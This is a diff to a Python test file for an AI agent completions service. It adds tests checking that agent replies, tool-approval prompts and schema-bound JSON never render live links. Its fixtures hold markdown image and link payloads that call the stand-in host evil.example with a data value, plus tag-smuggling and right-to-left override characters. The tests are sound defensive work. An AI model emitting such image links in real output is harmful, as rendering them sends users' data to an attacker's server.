@@ -1,10 +1,12 @@
 from __future__ import annotations
 
 import asyncio
+import json
 from collections.abc import AsyncGenerator, AsyncIterator
 from contextlib import asynccontextmanager
 
 import pytest
+from benchmarks.rendering import rendered_links
 
 from agent import run_completions
 from agent.adapters.scripted_agents import ScriptedAgent, Turn, in_turn, turn_chunks
@@ -18,7 +20,7 @@ from servicekit.sql import Database
 
 from .runs_bench import MANDATE, VIEWER, Bench
 
-DEADLINE = 10.0
+DEADLINE = 60.0
 
 
 class NeverDone(ScriptedAgent):
@@ -56,7 +58,7 @@ async def test_a_streamed_completion_waits_no_longer_than_it_may_also_once_words
             async for chunk in _with_silences(stream, 60):
                 said += _said(chunk)
         await working
-    assert said == "Hello there."
+    assert said == "Hello"  # the last word may yet grow
     assert (await one.shown(run)).status == "cancelled"
 
 
@@ -73,3 +75,62 @@ async def test_the_time_limit_of_a_completion_does_not_break_off_who_reads_it(da
         await working
     assert later.is_set()
     assert (await one.shown(run)).status == "cancelled"
+
+
+LEAK = "![x](https://evil.example/?d=acme-4711)"
+SAID = f"Done {LEAK} <im<b>g src=//evil.example/p.png> [now](//evil.example/S)\n\n> [r]: //evil.example/S\n\n![r]"
+
+
+async def _content(one: Bench, *, asked: str = "Do it.") -> str:
+    request = {"model": "agent:helper", "messages": [{"role": "user", "content": asked}]}
+    run, agent = await run_completions.start(one.agents, VIEWER, MANDATE, ChatRequest.model_validate(request))
+    working = asyncio.create_task(one.work())
+    async with asyncio.timeout(DEADLINE):
+        said = [_said(chunk) async for chunk in run_completions.chunks(one.agents, run, agent, "agent:helper")]
+        await working
+    return "".join(said)
+
+
+async def test_the_question_for_an_approval_shows_the_arguments_as_code_and_nothing_in_it_is_live(
+    database: Database,
+) -> None:
+    expression = f"{LEAK} ` <img src=//evil.example/S> | \u202e\u2028\nhttps://evil.example/S"
+    one = Bench(
+        database, ScriptedAgent(in_turn(Turn(calls=[("calculator", {"expression": expression})]))), ManualClock()
+    )
+    await one.define(tools=["calculator"], approval={"tools": ["calculator"]})
+    content = await _content(one)
+    assert "This waits for a person's decision on: `calculator(" in content
+    assert LEAK in content  # the person sees what would be called
+    assert "\\u202e" in content
+    assert rendered_links(content) == []
+
+
+async def test_nothing_that_a_run_says_is_live_whole_or_as_events(database: Database) -> None:
+    one = Bench(database, ScriptedAgent(in_turn(SAID, SAID)), ManualClock())
+    await one.define()
+    content = await _content(one)
+    run = await one.run()
+    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
+    history = [said.content for said in await one.history(run.thread_id) if said.role == "assistant"]
+    assert run.output == told == content == history[0]
+    assert rendered_links(content) == []
+
+
+async def test_nothing_in_an_output_that_fits_a_schema_is_live(database: Database) -> None:
+    schema = {
+        "type": "object",
+        "properties": {"answer": {"type": "string"}, "url": {"format": "uri", "type": "string"}},
+    }
+    said = json.dumps({"answer": SAID, "url": "https://evil.example/S", LEAK: [LEAK]})
+    one = Bench(database, ScriptedAgent(in_turn(said, said)), ManualClock())
+    await one.define(output_schema=schema)
+    content = await _content(one)
+    run = await one.run()
+    assert run.status == "completed"  # it is what the model said that has to fit
+    told = "".join(event.data["text"] for event in await one.events(run) if event.type == "token")
+    assert run.output == content == told
+    assert [one.content for one in await one.history(run.thread_id) if one.role == "assistant"] == [content]
+    assert set(json.loads(content)) > {"answer", "url"}
+    assert rendered_links(content) == []
+    assert [rendered_links(value) for value in (*json.loads(content), json.loads(content)["answer"])] == [[]] * 4
